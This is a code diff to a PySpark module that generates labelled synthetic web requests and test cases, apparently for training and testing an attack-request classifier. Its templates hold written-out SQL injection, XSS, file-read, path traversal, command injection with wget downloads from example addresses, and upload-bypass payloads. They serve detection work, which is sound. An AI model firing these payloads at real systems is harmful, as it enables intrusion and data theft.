@@ -20,60 +20,57 @@ from reqsight.functions.draws import draw
 
 ATTACK_SRC = "data/attack_lines.txt"
 NORMAL_SRC = "data/normal_lines.txt"
-TEXT_SLOT = "{text}"
-
-# Our own labelled-line templates: (src, title, payload, is_attack). An empty
-# title marks a line without the ": " separator. TEXT_SLOT is replaced by the
-# whole document text (new lines turned into spaces).
+# Our own labelled-line templates: (src, title, payload, is_attack). An empty title marks a line
+# without the ": " separator. Every payload holds a slot for the document's whole text (new lines
+# turned into spaces): as it is, in base64, in hex, or only its percent signs (empty for most texts).
+TEXT_SLOT, BASE64_SLOT, HEX_SLOT, MARKS_SLOT = "{text}", "{base64}", "{hex}", "{marks}"
+ENCODED_PREFIX = "<script>"  # put before a text that is encoded whole
 TEMPLATES = [
-    (ATTACK_SRC, "SQL Injection (classic)", "user=admin' OR '1'='1' -- ", True),
-    (ATTACK_SRC, "SQLi union probe", "id=1 UNION SELECT username, password FROM accounts", True),
-    (ATTACK_SRC, "NoSQL operator abuse", 'login={"$gt": ""}', True),
-    (ATTACK_SRC, "Sample 12", "id=5 AND 1=1 OR 2=2; DROP TABLE orders", True),
-    (ATTACK_SRC, "Case_B7", "q=1' WAITFOR DELAY '0:0:5'--", True),
-    (ATTACK_SRC, "Cross-Site Scripting (reflected)", "<script>alert(1)</script>", True),
-    (ATTACK_SRC, "XSS in attribute", '"><img src=x onerror=alert(1)>', True),
-    (ATTACK_SRC, "Generic probe 3", "<svg/onload=alert(1)>", True),
-    (ATTACK_SRC, "Marketing form", "name=<body onpointerenter=prompt(1)>", True),
-    (ATTACK_SRC, "Encoded sample", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", True),
-    (ATTACK_SRC, "Double encoded sample", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E", True),
-    (ATTACK_SRC, "Local File Inclusion", "page=../../../etc/passwd", True),
-    (ATTACK_SRC, "LFI wrapper", "file=php://filter/convert.base64-encode/resource=index.php", True),
-    (ATTACK_SRC, "Generic probe 9", "../../../../etc/passwd", True),
-    (ATTACK_SRC, "Directory Traversal", "download=../../../../var/log/app.log", True),
-    (ATTACK_SRC, "Path Traversal (windows)", "doc=..\\..\\windows\\win.ini", True),
-    (ATTACK_SRC, "Sample 21", "img=..%2f..%2fconfig.yml", True),
-    (ATTACK_SRC, "Sample 22", "f=../static/../../secret.txt", True),
-    (ATTACK_SRC, "Remote Code Execution", "cmd=; cat /etc/hosts", True),
-    (ATTACK_SRC, "OS Command Injection", "ip=127.0.0.1 | ls -la", True),
-    (ATTACK_SRC, "Generic probe 14", "host=example.org; wget http://203.0.113.9/x.sh", True),
-    (ATTACK_SRC, "Source review", "v=$(whoami)", True),
-    (ATTACK_SRC, "Unrestricted File Upload", "file=shell.php.jpg", True),
-    (ATTACK_SRC, "Upload bypass", "filename=avatar.phtml", True),
-    (ATTACK_SRC, "Generic probe 17", "token=QWxhZGRpbjpvcGVuIHNlc2FtZQ", True),
-    (ATTACK_SRC, "Base64 sample", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", True),
-    (ATTACK_SRC, "Hex sample", "0x3c7363726970743e616c6572742831293c2f7363726970743e", True),
-    (ATTACK_SRC, "Empty probe", "", True),
-    (ATTACK_SRC, "", "wget http://198.51.100.7/a.sh -O /tmp/a", True),
-    (ATTACK_SRC, "", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", True),
-    (ATTACK_SRC, "Sample 30",
-     "q=1' UNION SELECT table_name, column_name, data_type FROM information_schema.columns "
-     "WHERE table_schema = database() AND 1=1 ORDER BY 1,2,3 LIMIT 50 OFFSET 0 -- padding "
-     "to exceed one hundred twenty eight characters", True),
-    (ATTACK_SRC, "Échantillon 4", "nom=Zoë' OR 1=1 --", True),
-    (ATTACK_SRC, "Generic probe 40", "comment=" + TEXT_SLOT, True),
-    (NORMAL_SRC, "Search", "q=how to bake sourdough bread", False),
-    (NORMAL_SRC, "Product page", "page=about_us.html&id=123", False),
-    (NORMAL_SRC, "Login", "username=jdoe&remember=1", False),
-    (NORMAL_SRC, "False positive menu", "choice=select your plan and union benefits", False),
-    (NORMAL_SRC, "Accented search", "q=crème brûlée à la française", False),
-    (NORMAL_SRC, "", "GET /static/app.css", False),
-    (NORMAL_SRC, "Analytics beacon",
-     "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&utm_content="
-     "hero_banner_variant_b&session=8f3a2c1d9e7b4a6f&lang=en-GB&screen=1920x1080", False),
-    (NORMAL_SRC, "Blog comment", "comment=" + TEXT_SLOT, False),
-    (NORMAL_SRC, "Empty form", "", False),
-    (NORMAL_SRC, "Profile update", "bio=I love hiking and photography; city=Paris", False),
+    (ATTACK_SRC, "SQL tautology in a login field", "account={text}' OR 'zz'='zz' #", True),
+    (ATTACK_SRC, "SQLi through a union", "item=44 UNION SELECT pin, iban FROM wallets -- {text}", True),
+    (ATTACK_SRC, "NoSQL operator in JSON", 'filter={"$ne": "{text}"}', True),
+    (ATTACK_SRC, "Probe 12", "ref=8 AND 5=5 OR 1=1; DROP TABLE parcels {text}", True),
+    (ATTACK_SRC, "Probe B7", "q={text}'; WAITFOR DELAY '0:0:9'--", True),
+    (ATTACK_SRC, "Cross-Site Scripting, reflected", "msg=<script>top.status=7</script>{text}", True),
+    (ATTACK_SRC, "XSS in an alt text", 'alt={text}"><img src=q onerror=prompt(4)>', True),
+    (ATTACK_SRC, "Probe 3", "<svg onload=confirm(2)>{text}", True),
+    (ATTACK_SRC, "Newsletter form", "sig=<body onpointerrawupdate=prompt(6)>{text}", True),
+    (ATTACK_SRC, "Encoded probe", "%3Cscript%3Etop.name%3D5%3C%2Fscript%3E{text}", True),
+    (ATTACK_SRC, "Twice encoded probe", "{text}%253Cimg%2520src%253Dq%2520onerror%253Dprompt(3)%253E", True),
+    (ATTACK_SRC, "Local File Inclusion", "view=/etc/passwd&note={text}", True),
+    (ATTACK_SRC, "LFI through a wrapper", "src=zip://parcel.zip%23{text}", True),
+    (ATTACK_SRC, "Probe 9", "tpl=/etc/passwd {text}", True),
+    (ATTACK_SRC, "Probe 10", "skin=c:/win.ini {text}", True),
+    (ATTACK_SRC, "Directory Traversal", "fetch=../../../data/ledger.db {text}", True),
+    (ATTACK_SRC, "Path Traversal, backslashes", "open=..\\..\\site\\conf.txt {text}", True),
+    (ATTACK_SRC, "Probe 21", "pic=..%2f..%2fkeys.yml {text}", True),
+    (ATTACK_SRC, "Probe 22", "f=../theme/../../plan.txt {text}", True),
+    (ATTACK_SRC, "Remote Code Execution", "run=; cat ledger.txt {text}", True),
+    (ATTACK_SRC, "OS Command Injection", "node=10.9.8.7 | ls -ltr {text}", True),
+    (ATTACK_SRC, "Probe 14", "mirror=files.test; wget http://203.0.113.77/p.bin {text}", True),
+    (ATTACK_SRC, "Source review", "v=`id` {text}", True),
+    (ATTACK_SRC, "Unrestricted File Upload", "doc=cover.php.gif {text}", True),
+    (ATTACK_SRC, "Upload bypass", "avatar=me.phtml {text}", True),
+    (ATTACK_SRC, "Upload with a false type", "sheet=report.jsp;type=image/png {text}", True),
+    (ATTACK_SRC, "Probe 17", "token={text}", True),
+    (ATTACK_SRC, "Probe 18", "session={text}", True),
+    (ATTACK_SRC, "Base64 probe", "{base64}", True),
+    (ATTACK_SRC, "Hex probe", "0x{hex}", True),
+    (ATTACK_SRC, "Empty probe", "{marks}", True),
+    (ATTACK_SRC, "", "wget http://198.51.100.23/k.sh -O /tmp/k {text}", True),
+    (ATTACK_SRC, "", "%2e%2e%2f%2e%2e%2fdata%2fledger {text}", True),
+    (ATTACK_SRC, "\u00c9chantillon 4", "nom=No\u00eblle' OR 1=1 -- {text}", True),
+    (ATTACK_SRC, "Probe 40", "comment={text}", True),
+    (NORMAL_SRC, "Search", "q=where to repair a wool coat {text}", False),
+    (NORMAL_SRC, "Catalogue page", "product=kettle&lang=fi&note={text}", False),
+    (NORMAL_SRC, "Sign-in", "login=ada.k&stay=yes {text}", False),
+    (NORMAL_SRC, "False positive menu", "dish=select the soup of the union hall {text}", False),
+    (NORMAL_SRC, "Accented search", "q=g\u00e2teau \u00e0 l'orange {text}", False),
+    (NORMAL_SRC, "", "GET /theme/base.css {text}", False),
+    (NORMAL_SRC, "Beacon", "utm_source=paper&utm_medium=post&screen=1024x768 {text}", False),
+    (NORMAL_SRC, "Blog comment", "comment={text}", False),
+    (NORMAL_SRC, "Empty form", "{marks}", False),
+    (NORMAL_SRC, "Profile", "bio={text}; city=Oulu", False),
 ]
 N_TEMPLATES = len(TEMPLATES)
 
@@ -83,22 +80,24 @@ RULE_NAMES = ["", "sqli-942100", "xss-941100;xss-941160", "lfi-930120",
 
 # Our own suite cases: (name, [(key, value), ...], expected_class).
 SUITE_CASES = [
-    ("Plain search", [("q", "spring jackets for kids")], "normal"),
-    ("Plain page", [("page", "contact.html"), ("id", "77")], "normal"),
-    ("Plain login", [("username", "mlopez"), ("password", "correct horse battery")], "normal"),
-    ("Tautology", [("user", "admin' or '1'='1"), ("pass", "x")], "sqli"),
-    ("Union select", [("id", "3 union select 1,2")], "sqli"),
-    ("Script tag", [("comment", "<script>alert(7)</script>")], "xss"),
-    ("Image onerror", [("search", '"><img src=x onerror=prompt(1)>')], "xss"),
-    ("Passwd read", [("file", "/etc/passwd")], "lfi"),
-    ("Dot dot slash", [("doc", "../../../srv/app.env")], "traversal"),
-    ("Pipe listing", [("ip", "10.0.0.1 | ls /")], "rce"),
-    ("Subshell", [("name", "$(whoami)")], "rce"),
-    ("Url encoded script", [("q", "%3Cscript%3Ealert(1)%3C%2Fscript%3E")], "xss"),
-    ("Double url encoded", [("q", "%253Csvg%252Fonload%253Dalert(1)%253E")], "xss"),
-    ("Base64 script", [("data", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")], "xss"),
-    ("Hex script", [("data", "0x3c7363726970743e")], "xss"),
-    ("Avatar upload", [("filename", "avatar.php.png")], "upload"),
+    ("Plain search", [("q", "rain boots in size 38")], "normal"),
+    ("Plain section", [("section", "opening-hours"), ("ref", "mail")], "normal"),
+    ("Plain sign-in", [("who", "t.varga"), ("phrase", "seven green kettles")], "normal"),
+    ("Words that only look like a query", [("dish", "menu%20select")], "normal"),
+    ("Tautology", [("who", "zoe' or '1'='1"), ("phrase", "y")], "sqli"),
+    ("Union over wallets", [("item", "9 union select pin, iban")], "sqli"),
+    ("Script element", [("msg", "<script>top.status=2</script>")], "xss"),
+    ("Broken image", [("alt", '"><img src=q onerror=prompt(8)>')], "xss"),
+    ("Account file", [("view", "/etc/passwd")], "lfi"),
+    ("Parent folders", [("tpl", "../../plan/notes.txt")], "traversal"),
+    ("Piped listing", [("node", "10.9.8.7 | ls -ltr")], "rce"),
+    ("Download and run", [("mirror", "wget http://203.0.113.77/p.bin")], "rce"),
+    ("Percent-encoded element", [("msg", "%3Cscript%3Etop.name%3D5%3C%2Fscript%3E")], "xss"),
+    ("Encoded four times", [("msg", "%2525253Csvg%2525253E")], "xss"),
+    ("Base64 value", [("blob", "PHNjcmlwdD50b3Auc3RhdHVzPTI8L3NjcmlwdD4=")], "xss"),
+    ("Short base64 value", [("blob", "Li4v")], "traversal"),
+    ("Hex value", [("blob", "0x3c7363726970743e")], "xss"),
+    ("File name", [("doc", "cover.php.gif")], "normal"),
 ]
 N_CASES = len(SUITE_CASES)
 
@@ -121,18 +120,28 @@ def read_table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
     return spark.read.parquet(f"{sf_dir}/{name}.parquet")
 
 
+def fill(template, text):
+    """A template payload with the whole (flattened) text in its slot."""
+    coded = F.concat(F.lit(ENCODED_PREFIX), text).cast("binary")
+    p = F.replace(template, F.lit(TEXT_SLOT), text)
+    p = F.when(template.contains(BASE64_SLOT), F.replace(p, F.lit(BASE64_SLOT), F.regexp_replace(F.base64(coded), "[\r\n]", ""))).otherwise(p)
+    p = F.when(template.contains(HEX_SLOT), F.replace(p, F.lit(HEX_SLOT), F.lower(F.hex(coded)))).otherwise(p)
+    return F.when(template.contains(MARKS_SLOT), F.regexp_replace(text, "[^%]", "")).otherwise(p)
+
+
+def flat(text):
+    return F.replace(F.coalesce(text, F.lit("")), F.lit("\n"), F.lit(" "))
+
+
 def labelled_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """T: one labelled line per documents row: ``id, tid, src, title, payload, is_attack``."""
-    docs = read_table(spark, sf_dir, "documents").select("doc_id", "text")
+    """T: one labelled line per documents row, the document's whole text in it: ``id, tid, src, title, payload, is_attack``."""
+    docs = read_table(spark, sf_dir, "documents").select("doc_id", "text", "source")
     tpl = templates_df(spark)
     picked = docs.withColumn("tid", (draw("doc_id", "t") % N_TEMPLATES).cast("int"))
-    flat_text = F.replace(F.coalesce(F.col("text"), F.lit("")), F.lit("\n"), F.lit(" "))
-    # only templates with a text slot touch the (possibly very long) document text
-    payload = F.when(F.col("tpl_payload").contains(TEXT_SLOT),
-                     F.replace(F.col("tpl_payload"), F.lit(TEXT_SLOT), flat_text)).otherwise(F.col("tpl_payload"))
+    title = F.when(F.col("title") == "", F.lit("")).otherwise(F.concat_ws(" ", "title", "source"))
     return (picked.join(F.broadcast(tpl), "tid")
-            .select(F.col("doc_id").alias("id"), "tid", "src", "title", payload.alias("payload"),
-                    "is_attack"))
+            .select(F.col("doc_id").alias("id"), "tid", "src", title.alias("title"),
+                    fill(F.col("tpl_payload"), flat(F.col("text"))).alias("payload"), "is_attack"))
 
 
 def requests(spark: SparkSession, sf_dir: str) -> DataFrame:
@@ -147,24 +156,44 @@ def requests(spark: SparkSession, sf_dir: str) -> DataFrame:
                         parts["query"].alias("http_query"), rules.alias("rule_names"))
 
 
+def fold_logits(vector: str, place):
+    """8 logits from all values of a vector: logit k sums the values whose 0-based position i has ``place(i)`` = k."""
+    value = F.transform(vector, lambda x: x.cast("double"))
+
+    def logit(k):
+        return F.aggregate(F.filter(value, lambda x, i: place(i) == k), F.lit(0.0), lambda a, x: a + x)
+
+    return F.array(*[logit(k) for k in range(8)])
+
+
 def scored_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """G: ``vec_id, logits ARRAY<DOUBLE>[8], label, pred``."""
+    """G: ``vec_id, logits ARRAY<DOUBLE>[8], label, pred``; logit k folds the values at positions k mod 8."""
     emb = read_table(spark, sf_dir, "embeddings")
-    logits = F.transform(F.slice("embedding", 1, 8), lambda x: x.cast("double"))
+    logits = fold_logits("embedding", lambda i: i % 8)
     return (emb.select("vec_id", logits.alias("logits"), (F.col("label") % 8).cast("int").alias("label"))
             .withColumn("pred", argmax("logits")))
 
 
-def request_events(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """V: ``event_id, ts TIMESTAMP (UTC), user_id, args MAP, payload``."""
-    from reqsight.functions.payload import json_args
-    ev = read_table(spark, sf_dir, "events").select("event_id", "ts", "user_id", "props")
+def with_payload(events: DataFrame) -> DataFrame:
+    """V from a (batch or streaming) events table: args are the props plus the template's payload as ``p``; payload is their P1.
+
+    The rows of the empty templates have no arguments.
+    """
+    from reqsight.functions.payload import assemble_payload, json_args
+    spark = events.sparkSession
     tpl = templates_df(spark).select("tid", "tpl_payload")
-    return (ev.withColumn("tid", (draw("event_id", "t") % N_TEMPLATES).cast("int"))
+    props = json_args(F.col("props"))
+    args = F.when(F.col("tpl_payload").contains(MARKS_SLOT), F.map_filter(props, lambda k, v: k.contains("%"))).otherwise(
+        F.map_concat(props, F.create_map(F.lit("p"), fill(F.col("tpl_payload"), F.lit("")))))
+    return (events.withColumn("tid", (draw("event_id", "t") % N_TEMPLATES).cast("int"))
             .join(F.broadcast(tpl), "tid")
-            .select("event_id", utc_instant(F.col("ts")).alias("ts"), "user_id",
-                    json_args(F.col("props")).alias("args"),
-                    F.replace(F.col("tpl_payload"), F.lit(TEXT_SLOT), F.lit("")).alias("payload")))
+            .select("event_id", utc_instant(F.col("ts")).alias("ts"), "user_id", args.alias("args"))
+            .withColumn("payload", assemble_payload("args")))
+
+
+def request_events(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """V: ``event_id, ts TIMESTAMP (UTC), user_id, args MAP, payload``."""
+    return with_payload(read_table(spark, sf_dir, "events").select("event_id", "ts", "user_id", "props"))
 
 
 def utc_instant(ts_ntz):
@@ -173,9 +202,10 @@ def utc_instant(ts_ntz):
 
 
 def suite_events(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """C assigned to events: one suite case per events row (``event_id, cid, name, args, expected_class``)."""
-    ev = read_table(spark, sf_dir, "events").select("event_id")
+    """C: one suite case per events row, the event's props followed by its arguments."""
+    from reqsight.functions.payload import json_args
+    ev = read_table(spark, sf_dir, "events").select("event_id", "props")
     cases = suite_df(spark)
     return (ev.withColumn("cid", (draw("event_id", "c") % N_CASES).cast("int"))
             .join(F.broadcast(cases), "cid")
-            .select("event_id", "cid", "name", "args", "expected_class"))
+            .select("event_id", "cid", "name", F.map_concat(json_args(F.col("props")), "args").alias("args"), "expected_class"))
